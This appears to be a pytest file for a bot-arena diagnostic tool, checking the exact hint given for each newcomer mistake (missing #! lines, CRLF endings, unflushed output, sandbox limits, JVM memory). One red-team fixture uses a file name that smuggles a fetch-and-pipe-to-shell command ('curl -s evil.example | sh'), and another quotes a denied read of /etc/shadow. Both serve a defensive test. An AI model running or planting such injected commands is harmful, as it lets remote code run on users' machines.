"""The hints as tables of facts: :func:`arena.bots.diagnose.diagnose` over :class:`Facts`, with no
process, no folder and no /proc. Each row is one newcomer mistake (issue 15's list, the
newcomer trials, the red team's) as the probe finds it, and the whole hint it gets, byte for
byte. ``tests/bots/test_hints.py`` keeps a dozen of them end to end, with real bots."""

from __future__ import annotations

import stat
from typing import Any

import pytest

from arena.bots.diagnose import Facts, FileFacts, diagnose, fixed_buffer_hint, needs_dying_words

FLUSH = ("print(..., flush=True), fflush(stdout), System.out.flush() (a BufferedWriter's own flush()), Go's "
         "bufio Writer.Flush(), Rust's io::stdout().flush(), Perl's $| = 1; Node's process.stdout.write "
         "needs none")
SETPRIV = "setpriv, named in its log, is the sandbox's launcher: it executes the command"
SHEBANG = b"#!/usr/bin/env python3\nimport json\n"
CRLF_SHEBANG = SHEBANG.replace(b"\n", b"\r\n")
EXECUTABLE, PRIVATE, PLAIN = stat.S_IFREG | 0o755, stat.S_IFREG | 0o600, stat.S_IFREG | 0o644


def here(*, head: bytes | None = None, mode: int = EXECUTABLE, relative: str = "") -> FileFacts:
    """A regular file in the bot's folder (``head``: its first bytes, when it could be read)."""
    return FileFacts(inside=True, relative=relative, exists=True, regular=True, mode=mode, head=head,
                     head_mode=mode if head is not None else 0)


def missing(*, alike: str | None = None, programs: tuple[str, ...] = ()) -> FileFacts:
    """A path inside the bot's folder that names nothing."""
    return FileFacts(inside=True, alike=alike, programs=programs)


START = {"kind": "start", "error": "bot b: cannot start"}
DIED = {"kind": "terminated", "error": "bot b: exit code 1"}
NOT_FOUND_127 = {"kind": "terminated", "error": "bot b: exit code 127", "strict": True}
NO_HELLO = {"kind": "start", "error": "bot b: no hello within 20 s of start", "no_hello": True,
            "line_channel": True, "running": True}
SILENT = {"kind": "timeout", "error": "bot b did not answer", "silent": True, "running": True,
          "line_channel": True, "hello": True, "waits": frozenset({"other"}), "states": frozenset({"S"})}
CRASHED = {"kind": "terminated", "hello": True}

SILENT_MOVE = ("it wrote nothing on stdout after the move_request and was waiting for its input: flush "
               f"stdout after every message ({FLUSH}), and read stdin line by line (not to end of file)")
TOO_SLOW = ("it was still computing when its time ran out: it is too slow for this time control; keep each "
            "move within the per-move limit (the request's clocks say it, and what is left in the bank)")
PARTIAL_MOVE = ("it wrote part of a line and no newline after the move_request: end each message with a "
                "newline and flush stdout after it")
READ_ONLY = ("under --sandbox strict the bot's folder is read-only: write files in $TMPDIR (a private "
             "temporary folder), never next to the bot")
STRICT_CHANGES = ("; if it runs under --sandbox none, look at what strict changes: the bot's folder is "
                  "read-only (write files in $TMPDIR: a file opened for writing next to the bot is NULL in "
                  "C), and it sees only its own folder and the system's")

CASES: dict[str, tuple[dict[str, Any], str]] = {
    # ------------------------------------------------------------ the command
    "shell syntax": ({**START, "command": ("cd", ".", "&&", "python", "stdio_bot.py")},
                     "no shell is run: 'command' is executed as it is, so put the commands in a script "
                     "(e.g. run.sh with its #! line) and run that"),
    "py, Windows' Python": ({**START, "command": ("py", "bot.py")},
                            "'py' is Windows' name for Python: on Linux run it with python (or python3), "
                            'e.g. command = "python bot.py"'),
    "a Windows program": ({**START, "command": ("bot.exe",), "files": {"bot.exe": here(head=b"MZ\x90\x00")}},
                          "bot.exe is a Windows program (.exe), which Linux cannot run: build the bot here "
                          '(a build = "..." line in bot.toml) or run its source with its interpreter'),
    "a Windows program by its path": (
        {**START, "command": ("./bot.exe",), "files": {"./bot.exe": here(head=b"MZ\x90\x00")}},
        "./bot.exe is a Windows program (.exe), which Linux cannot run: build the bot here (a build = "
        '"..." line in bot.toml) or run its source with its interpreter'),
    "no ./": ({**START, "command": ("stdio_bot.py",), "files": {"stdio_bot.py": here(head=SHEBANG)}},
              "a command without a '/' is looked up on the PATH, not in the bot's folder: write "
              '"./stdio_bot.py" in bot.toml'),
    "no ./, strict": ({**NOT_FOUND_127, "command": ("stdio_bot.py",), "files": {"stdio_bot.py": here()},
                       "log_tail": ("setpriv: failed to execute stdio_bot.py: No such file or directory",)},
                      "a command without a '/' is looked up on the PATH, not in the bot's folder: write "
                      f"\"./stdio_bot.py\" in bot.toml ({SETPRIV})"),
    "no such program, strict": ({**NOT_FOUND_127, "command": ("no-such-program",),
                                 "log_tail": ("setpriv: failed to execute no-such-program: No such file",)},
                                SETPRIV),
    "no such program, none": ({**START, "command": ("no-such-program",)}, ""),
    "not executable": ({**START, "command": ("./stdio_bot.py",),
                        "files": {"./stdio_bot.py": here(head=SHEBANG, mode=PLAIN)}},
                       "./stdio_bot.py is not executable: chmod +x it, or run it with its interpreter: "
                       'command = ["python3", "stdio_bot.py"]'),
    "not executable, no #! line": ({**START, "command": ("./bot.sh",),
                                    "files": {"./bot.sh": here(head=b"echo hi\n", mode=PLAIN)}},
                                   "./bot.sh is not executable: chmod +x it, or run it with its "
                                   'interpreter: command = ["bash", "bot.sh"]'),
    "no #! line": ({**START, "error": "bot script: cannot start './stdio_bot.py': [Errno 8] Exec format "
                                      "error",
                    "command": ("./stdio_bot.py",), "files": {"./stdio_bot.py": here(head=b"import json\n")}},
                   "./stdio_bot.py has no #! line: add one, e.g. #!/usr/bin/env python3"),
    "no #! line, strict: /bin/sh runs it": (
        {**NOT_FOUND_127, "error": "bot script: exit code 2", "command": ("./stdio_bot.py",),
         "program": "/bots/script/./stdio_bot.py", "files": {"./stdio_bot.py": here(head=b"import json\n")},
         "log_tail": ("/bots/script/./stdio_bot.py: 1: import: not found",)},
        "./stdio_bot.py has no #! line: add one, e.g. #!/usr/bin/env python3"),
    "an ELF program is not told it has no #! line": (
        {**START, "error": "Exec format error", "command": ("./bot",),
         "files": {"./bot": here(head=b"\x7fELF\x02")}}, ""),
    "CRLF": ({**START, "command": ("./stdio_bot.py",),
              "files": {"./stdio_bot.py": here(head=SHEBANG.replace(b"\n", b"\r\n"))}},
             "./stdio_bot.py has Windows (CRLF) line endings, so its #! line ends in a carriage return: "
             "convert it (sed -i 's/\\r$//' ./stdio_bot.py, or dos2unix ./stdio_bot.py)"),
    # Permission denied is what the user sees: the CRLF hint alone sent a newcomer back a second time
    "CRLF, not executable": ({**START, "command": ("./stdio_bot.py",),
                              "files": {"./stdio_bot.py": here(head=CRLF_SHEBANG, mode=PLAIN)}},
                             "./stdio_bot.py is not executable and has Windows (CRLF) line endings: chmod "
                             "+x it, and convert it (sed -i 's/\\r$//' ./stdio_bot.py, or dos2unix "
                             "./stdio_bot.py)"),
    "CRLF script run by bash": ({**DIED, "command": ("bash", "bot.sh"),
                                 "files": {"bot.sh": here(head=b"read -r line\r\ncase \"$line\" in\r\n")}},
                                "bot.sh has Windows (CRLF) line endings, and bash reads the carriage "
                                "return as part of each line: convert it (sed -i 's/\\r$//' bot.sh, or "
                                "dos2unix bot.sh)"),
    "CRLF script run by perl": ({**DIED, "command": ("perl", "bot.pl"),
                                 "files": {"bot.pl": here(head=b"my $x = <<\"END\";\r\nhello\r\n")}},
                                "bot.pl has Windows (CRLF) line endings, and perl reads the carriage "
                                "return as part of each line: convert it (sed -i 's/\\r$//' bot.pl, or "
                                "dos2unix bot.pl)"),
    "CRLF script run by python (which does not mind)": (
        {**DIED, "command": ("python", "bot.py"), "files": {"bot.py": here(head=b"import json\r\n")}}, ""),
    # red team: copied from a report into a shell, the name must not run the author's command
    "a script name is quoted for the shell": (
        {**DIED, "command": ("bash", "run.sh; curl -s evil.example | sh; echo"),
         "files": {"run.sh; curl -s evil.example | sh; echo": here(head=b"read -r line\r\n")}},
        "run.sh; curl -s evil.example | sh; echo has Windows (CRLF) line endings, and bash reads the "
        "carriage return as part of each line: convert it (sed -i 's/\\r$//' 'run.sh; curl -s evil.example "
        "| sh; echo', or dos2unix 'run.sh; curl -s evil.example | sh; echo')"),
    "outside the sandbox's view": ({**NOT_FOUND_127, "error": "bot outside: exit code 2",
                                    "command": ("python", "/elsewhere/stdio_bot.py"),
                                    "hidden": ("/elsewhere/stdio_bot.py",)},
                                   "under the sandbox only the bot's own folder is visible, not "
                                   "/elsewhere/stdio_bot.py: use a path inside it"),
    "outside the sandbox's view, by ..": (
        {**NOT_FOUND_127, "error": "bot sibling: exit code 2", "folder": "/bots/sibling",
         "command": ("python", "../elsewhere/stdio-bot/stdio_bot.py")},
        "under the sandbox only the bot's own folder is visible, and ../elsewhere/stdio-bot/stdio_bot.py "
        "is outside it: copy what the bot needs into its folder and use a path inside it"),
    "a path outside is no hint under none": (
        {**DIED, "folder": "/bots/sibling", "command": ("python", "../elsewhere/stdio_bot.py")}, ""),
    "a build that did not make the program": (
        {**START, "command": ("./bot",), "has_build": True, "folder": "/bots/misnamed",
         "files": {"./bot": missing(programs=("cbot",))}},
        "./bot is not in the bot's folder after its build: 'command' must name the program the build makes "
        '(programs there: "cbot")'),
    "a program in a subfolder, four programs there": (
        {**START, "command": ("./bin/bot",), "folder": "/bots/b",
         "files": {"./bin/bot": missing(programs=("d", "c", "b", "a"))}},
        "./bin/bot is not in bin (programs there: \"a\", \"b\", \"c\", ...)"),
    # red team: through a link out of the folder no hint looks (whether /usr/bin/nothere exists must not show)
    "a program through a link out of the folder": ({**START, "command": ("lib/nothere",),
                                                    "files": {"lib/nothere": FileFacts()}}, ""),
    "a script named in another case": (
        {**DIED, "error": "bot w: exit code 2", "command": ("python", "bot.py"),
         "files": {"bot.py": missing(alike="Bot.py")}},
        "bot.py is not in the bot's folder, but Bot.py is: file names are case-sensitive on Linux (rename "
        "the file or change the command)"),
    "a program named in another case": (
        {**START, "command": ("./bin/bot",), "files": {"./bin/bot": missing(alike="./bin/Bot")}},
        "./bin/bot is not in the bot's folder, but ./bin/Bot is: file names are case-sensitive on Linux "
        "(rename the file or change the command)"),
    "a path split at its space": (
        {**DIED, "error": "bot w: exit code 2", "command": ("python", "my", "files/bot.py"),
         "files": {"my": missing(), "my files/bot.py": here()}},
        '"my files/bot.py" holds a space, so the command line split it into words: quote it (command = '
        '"... \'my files/bot.py\'") or give the words as a list'),
    "a path from the folder above": (
        {**DIED, "command": ("python", "pyb/stdio_bot.py"), "folder": "/bots/pyb",
         "folder_names": frozenset({"pyb"}),
         "files": {"pyb/stdio_bot.py": missing(), "stdio_bot.py": here()}},
        'paths in \'command\' are relative to the bot\'s folder (pyb): write "stdio_bot.py", not '
        '"pyb/stdio_bot.py"'),
    "a program's path from the folder above": (
        {**START, "command": ("./pyb/stdio_bot.py",), "folder": "/bots/pyb",
         "folder_names": frozenset({"pyb"}),
         "files": {"./pyb/stdio_bot.py": missing(), "stdio_bot.py": here()}},
        'paths in \'command\' are relative to the bot\'s folder (pyb): write "./stdio_bot.py", not '
        '"./pyb/stdio_bot.py"'),
    "a file other users cannot read, strict": (
        {**NOT_FOUND_127, "error": "bot private: exit code 2", "command": ("python", "stdio_bot.py"),
         "folder": "/bots/my private", "files": {"stdio_bot.py": here(mode=PRIVATE)}},
        "stdio_bot.py is mode 600: under --sandbox strict the bot runs as a user of its own, which must be "
        "able to read it (chmod -R o+rX '/bots/my private')"),
    "a file other users cannot read, none": (
        {**DIED, "command": ("python", "stdio_bot.py"), "files": {"stdio_bot.py": here(mode=PRIVATE)}}, ""),
    "a build that failed": ({**START, "broken": True, "command": ("cd", "&&")}, ""),
    # ------------------------------------------------------------ the start: no hello
    "unflushed": (NO_HELLO, f"it wrote nothing on stdout: flush your stdout after each message ({FLUSH})"),
    "unflushed, or loading": ({**NO_HELLO, "start_timeout_s": 2.0, "log_tail": ("loading tables",)},
                              "it wrote nothing on stdout: flush your stdout after each message "
                              f"({FLUSH}); or it is still starting: say hello first, then load (the start "
                              "limit is 2 s; the Python SDK's run(setup=...) does this)"),
    "computing before its hello": ({**NO_HELLO, "busy": True, "start_timeout_s": 2.0},
                                   "it was still computing when the start timeout (2 s) ran out: send "
                                   "hello first, then load or precompute (the first move has a larger "
                                   "limit; the Python SDK's run(setup=...) does this)"),
    "a hello without its newline": ({**NO_HELLO, "partial_line": True},
                                    "it wrote part of a line and no newline: end each message with a "
                                    "newline and flush your stdout after each message"),
    "a hello on stderr": ({**NO_HELLO, "log_tail": ('{"type": "hello", "name": "b"}',)},
                          "its hello went to its log (stderr): write messages to stdout"),
    "a stdio bot whose bot.toml says zmq": (
        {**DIED, "error": "bot b: exit code 0", "stdio": False,
         "log_tail": ('{"type": "hello", "name": "b", "version": "1", "protocol": 1}',)},
        'this bot\'s log holds a hello, so it speaks JSON lines on stdout: set protocol = "stdio" in its '
        "bot.toml"),
    "a ZeroMQ bot that never connects": (
        {**NO_HELLO, "stdio": False, "line_channel": False, "log_tail": ("connecting",)},
        "a ZeroMQ bot connects a DEALER socket, identity ARENA_TOKEN, to ARENA_ENDPOINT and sends hello "
        'first; a bot speaking JSON lines on stdin/stdout needs protocol = "stdio" in its bot.toml; or it '
        "is still starting: say hello first, then load (the start limit is 20 s; the Python SDK's "
        "run(setup=...) does this)"),
    "a ZeroMQ bot that exits at once": (
        {**DIED, "error": "bot b: exit code 0", "stdio": False},
        "a ZeroMQ bot connects a DEALER socket, identity ARENA_TOKEN, to ARENA_ENDPOINT and sends hello "
        'first; a bot speaking JSON lines on stdin/stdout needs protocol = "stdio" in its bot.toml'),
    "ZeroMQ code in a stdio bot": (
        {**DIED, "log_tail": ("    token = os.environ['ARENA_TOKEN']", "KeyError: 'ARENA_TOKEN'")},
        "its log names ARENA_TOKEN or ARENA_ENDPOINT, which only a ZeroMQ bot is given: a ZeroMQ bot needs "
        'protocol = "zmq" in its bot.toml (a stdio bot speaks JSON lines on stdin/stdout)'),
    "a REQ socket": ({"kind": "malformed", "stdio": False, "hello": True,
                      "error": "bot req: a multipart message (2 frames, the first empty)"},
                     "use a DEALER socket, not REQ (a REQ socket puts an empty frame before each message)"),
    "a first message other than hello": (
        {"kind": "other", "error": 'schema: message: at $.type: expected one of "hello", ..., got "hi"'},
        'a bot\'s first message is its hello: {"type": "hello", "name": ..., "version": ..., "protocol": '
        '1} (protocol/PROTOCOL.md, section 5, "hello")'),
    # ------------------------------------------------------------ a move that never came
    "unflushed move": ({**SILENT, "waits": frozenset({"input"})}, SILENT_MOVE),
    "a move without its newline": ({**SILENT, "partial_line": True}, PARTIAL_MOVE),
    "blank lines": ({**SILENT, "wrote_since_send": True},
                    "it wrote only blank lines on stdout after the move_request, and no move: write the "
                    "move as one line of JSON, and nothing else, then flush stdout"),
    "stopped itself": ({**SILENT, "states": frozenset({"T"})},
                       "it was stopped (state T in /proc: a SIGSTOP or SIGTSTP sent to itself or its "
                       "process group), so it could not answer: a bot must never stop itself"),
    "thinks (state R)": ({**SILENT, "states": frozenset({"R"})}, TOO_SLOW),
    "thinks in a thread (a JVM)": ({**SILENT, "busy": True}, TOO_SLOW),
    # red team: a thread pondering meanwhile made both of these "still computing"
    "ponders, unflushed": ({**SILENT, "waits": frozenset({"input", "other"}), "busy": True,
                            "states": frozenset({"R", "S"})}, SILENT_MOVE),
    "ponders, no newline": ({**SILENT, "waits": frozenset({"input", "other"}), "partial_line": True,
                             "states": frozenset({"R"})}, PARTIAL_MOVE),
    "computing after part of a line": ({**SILENT, "partial_line": True, "states": frozenset({"R"})}, ""),
    "sleeps": ({**SILENT, "waits": frozenset({"sleep"})},
               "it was sleeping when its time ran out (not reading its input, not computing): a move must "
               "come within the per-move limit, and the bank"),
    "neither reading nor computing": ({**SILENT},
                                      "it wrote nothing on stdout after the move_request and was not "
                                      f"computing: flush stdout after every message ({FLUSH}), and read "
                                      "stdin line by line (not to end of file)"),
    # red team: a reply landing while the probe looked into /proc was told "only blank lines"
    "answers late": ({**SILENT, "wrote_since_send": True, "reply_waiting": True},
                     "its reply came after its time ran out: it is too slow for this time control; keep "
                     "each move within the per-move limit (the request's clocks say it, and what is left "
                     "in the bank)"),
    "a timeout after it wrote something": ({**SILENT, "silent": False, "waits": frozenset({"input"})}, ""),
    "a silent ZeroMQ bot (nothing to look into)": ({**SILENT, "stdio": False, "line_channel": False}, ""),
    # ------------------------------------------------------------ a bot that died
    "stops after one game": ({**CRASHED, "error": "bot one-game: exit code 0", "last_sent": 300},
                             "it exited by itself: a bot must play many games, one after another, until "
                             "the referee sends shutdown"),
    "exits after a long message": ({**CRASHED, "error": "bot b: exit code 0", "last_sent": 20_000,
                                    "language": "rust"}, fixed_buffer_hint(20_000, "rust", "exited")),
    "gives up after a long message": ({**CRASHED, "error": "b gave up: token too long", "running": True,
                                       "last_sent": 70_000, "language": "go"},
                                      fixed_buffer_hint(70_000, "go", "gave up")),
    # red team: a bot that gives up (an error message) was told it "died before its first move"
    "gives up": ({**CRASHED, "error": "quitter gave up: I resign", "running": True, "moved_this_game": False},
                 ""),
    "dies after a long message (C, fixed buffer)": (
        {**CRASHED, "error": "bot fixed-buffer: killed by signal 11 (SIGSEGV)", "last_sent": 20_000,
         "language": "c"},
        "it died right after a message of 20,000 bytes: if it reads each line into a fixed-size buffer, "
        "that is why: messages can be up to 1 MiB on one line (a move_request with its legal moves can "
        "reach 87 KB): read each line whole; in C, fgets into a char array cuts a longer line in pieces: "
        "read with getline(&line, &cap, stdin), which grows its buffer"),
    "a Python bot dying after a long message is not told of buffers": (
        {**CRASHED, "error": "bot b: exit code 1", "last_sent": 20_000, "language": "python"}, ""),
    "dies on the welcome or its first game": (
        {**CRASHED, "error": "bot b: exit code 1", "moved_this_game": False, "games_this_run": 1},
        "it died before its first move, in its first game since it started: on `welcome`, this game's "
        "new_game or its first move_request (its log says which); a bot must ignore (and may log) the "
        "message types it does not handle"),
    "dies on the game_over before": (
        {**CRASHED, "error": "bot game-over-error: exit code 1", "moved_this_game": False,
         "games_this_run": 2},
        "it died before its first move of this game: on this game's new_game or first move_request, or "
        "still on the game_over of the game before (its log says which)"),
    "out of memory": ({**CRASHED, "error": "bot b: killed: out of memory",
                       "command": ("java", "-jar", "b.jar")},
                      "it used more memory than a bot may have: use less (a JVM sizes its heap from the "
                      "machine's memory unless given -Xmx: give it well under the limit, e.g. -Xmx512m)"),
    "writes beside itself, strict": (
        {**CRASHED, "strict": True, "error": "bot b: exit code 1",
         "log_tail": ("OSError: [Errno 30] Read-only file system: 'moves.log'",)}, READ_ONLY),
    "writes beside itself, strict (Node)": (
        {**CRASHED, "strict": True, "error": "bot js: exit code 1",
         "log_tail": ("Error: EROFS: read-only file system, open 'moves.log'",)}, READ_ONLY),
    "a file of another user beside it, strict (Node)": (
        {**CRASHED, "strict": True, "error": "bot js: exit code 1",
         "log_tail": ("Error: EACCES: permission denied, open 'moves.log'",),
         "files": {"moves.log": here(mode=PLAIN, relative="moves.log")}},
        "under --sandbox strict the bot's folder is read-only and moves.log belongs to another user: write "
        "files in $TMPDIR (a private temporary folder), never next to the bot"),
    "a file it cannot read, named in its log, strict": (
        {**CRASHED, "strict": True, "error": "bot b: exit code 1", "folder": "/bots/b",
         "log_tail": ("PermissionError: [Errno 13] Permission denied: 'weights.txt'",),
         "files": {"weights.txt": here(mode=PRIVATE, relative="weights.txt")}},
        "weights.txt is mode 600: under --sandbox strict the bot runs as a user of its own, which must be "
        "able to read it (chmod -R o+rX /bots/b)"),
    "a denied file outside the folder": (
        {**CRASHED, "strict": True, "error": "bot b: exit code 1",
         "log_tail": ("PermissionError: [Errno 13] Permission denied: '/etc/shadow'",)}, ""),
    "dies of SIGSEGV, nothing in its log, strict": (
        {**CRASHED, "strict": True, "error": "bot fixed-buffer: killed by signal 11 (SIGSEGV)"},
        "its log is empty" + STRICT_CHANGES),
    "dies of SIGSEGV, its log full, strict": (
        {**CRASHED, "strict": True, "error": "bot fixed-buffer: killed by signal 11 (SIGSEGV)",
         "log_full": True},
        "its log is full" + STRICT_CHANGES),
    "dies of SIGSEGV, nothing in its log, none": (
        {**CRASHED, "error": "bot fixed-buffer: killed by signal 11 (SIGSEGV)"}, ""),
    "reads a variable it is not given": (
        {**CRASHED, "log_tail": ("    depth = int(os.environ['USERPROFILE'])", "KeyError: 'USERPROFILE'")},
        "the bot's environment holds only PATH, HOME, LANG and TMPDIR (and ARENA_* for a ZeroMQ bot): read "
        "no other variable, or give a default"),
    "a Rust bot reads a variable it is not given": (
        {**CRASHED, "log_tail": ("called `Result::unwrap()` on an `Err` value: NotPresent",)},
        "the bot's environment holds only PATH, HOME, LANG and TMPDIR (and ARENA_* for a ZeroMQ bot): read "
        "no other variable, or give a default"),
    "a file by a path from another folder": (
        {**CRASHED, "log_tail": ("FileNotFoundError: [Errno 2] No such file or directory: "
                                 "'wdir/weights.txt'",),
         "files": {"wdir/weights.txt": missing(), "weights.txt": here()}},
        "the bot runs in its own folder, where wdir/weights.txt is not but weights.txt is: paths are "
        "relative to the bot's folder"),
    # ------------------------------------------------------------ lines that are not JSON
    "pretty-printed JSON": ({"kind": "malformed", "hello": True, "bad_text": "{"},
                            "one message per line: write each message as one line of JSON (no "
                            "pretty-printing, no newlines inside a message)"),
    "a debug print": ({"kind": "malformed", "hello": True, "bad_text": "DEBUG: got request 3"},
                      "stdout carries only protocol messages: print debug output to stderr (it goes to the "
                      "bot's log)"),
    "a dict printed by Python": ({"kind": "malformed", "bad_text": "{'type': 'hello', 'name': 'win'}"},
                                 "this is how Python prints a dict (single quotes, True, None), not JSON: "
                                 "send print(json.dumps(message), flush=True)"),
    "a JVM's warning": ({"kind": "malformed",
                         "bad_text": '[0.346s][warning][os,thread] Failed to start thread "Unknown thread" '
                         "- pthread_create failed (EAGAIN)"},
                        "a JVM writes its own warnings on stdout: give java -Xlog:disable "
                        "-Xlog:all=warning:stderr (they then go to the bot's log); it could not start a "
                        "thread: under --sandbox strict a bot has at most 256 processes and threads"),
    "a JVM without heap": ({"kind": "malformed", "bad_text": "Error occurred during initialization of VM",
                            "next_lines": ("Could not reserve enough space for 8388608KB object heap",)},
                           'its next lines on stdout, as it died: "Could not reserve enough space for '
                           '8388608KB object heap"; the JVM could not get the heap it was given: give it '
                           "-Xmx well under the bot's memory (4096 MiB of address space under --sandbox "
                           "none), e.g. -Xmx512m"),
    "a JVM without heap, strict": ({"kind": "malformed",
                                    "bad_text": "Error occurred during initialization of VM",
                                    "next_lines": ("There is insufficient memory for the Java Runtime",),
                                    "memory_limit": "1024 MiB under --sandbox strict"},
                                   'its next lines on stdout, as it died: "There is insufficient memory '
                                   'for the Java Runtime"; the JVM could not get the heap it was given: '
                                   "give it -Xmx well under the bot's memory (1024 MiB under --sandbox "
                                   "strict), e.g. -Xmx512m"),
    "dies saying why": ({"kind": "malformed", "bad_text": "fatal: cannot open weights.bin",
                         "next_lines": ("giving up",)},
                        'its next lines on stdout, as it died: "giving up"; a program that fails may write '
                        "why on stdout (a JVM does)"),
    "dies saying why at length": ({"kind": "malformed", "bad_text": "fatal: cannot open weights.bin",
                                   "next_lines": ("x" * 100_000, "y" * 100_000, "giving up")},
                                  'its next lines on stdout, as it died: "' + "x" * 200 + '" | "' + "y" * 200
                                  + '" | "giving up"; a program that fails may write why on stdout (a JVM '
                                    "does)"),
    "dies saying why, not in UTF-8": (
        {"kind": "malformed", "bad_text": "fatal: cannot open weights.bin",
         "next_lines": ("[MalformedMessageError: bot binary: a message that is not UTF-8]", "giving up")},
        'its next lines on stdout, as it died: "[MalformedMessageError: bot binary: a message that is not '
        'UTF-8]" | "giving up"; a program that fails may write why on stdout (a JVM does)'),
    # "one message per line" was given for any bad line starting with "{"
    "a number too long": (
        {"kind": "malformed", "hello": True, "bad_text": '{"type": "move", "x": ' + "9" * 150}, ""),
    "NaN": ({"kind": "malformed", "hello": True, "bad_text": '{"type": "move", "x": NaN}'}, ""),
    "nested too deeply": ({"kind": "malformed", "hello": True, "bad_text": "[" * 200}, ""),
}


@pytest.mark.parametrize(("given", "hint"), CASES.values(), ids=list(CASES))
def test_the_hint_for_each_mistake(given: dict[str, Any], hint: str) -> None:
    assert diagnose(Facts(**given)) == hint


def test_a_failure_that_is_no_mistake_gets_no_hint() -> None:
    assert diagnose(Facts(kind="other", error="bot b played an illegal move", hello=True)) == ""
    assert diagnose(Facts(kind="timeout", error="bot b did not answer", hello=True)) == ""


@pytest.mark.parametrize(("given", "asks"), [
    ({"kind": "malformed", "bad_text": "fatal: no weights"}, True),
    ({"kind": "malformed", "bad_text": "{'type': 'hello'}"}, False),  # Python's dict: its own hint
    ({"kind": "malformed", "bad_text": "[0.346s][warning][gc] x"}, False),  # a JVM's warning: its own hint
    ({"kind": "malformed", "bad_text": "{"}, False),
    ({"kind": "malformed", "bad_text": "oops", "stdio": False}, False),
    ({"kind": "other", "bad_text": "oops"}, False)])
def test_the_probe_waits_for_a_dying_bot_only_when_the_hint_needs_it(given: dict[str, Any],
                                                                      asks: bool) -> None:
    assert needs_dying_words(Facts(**given)) is asks
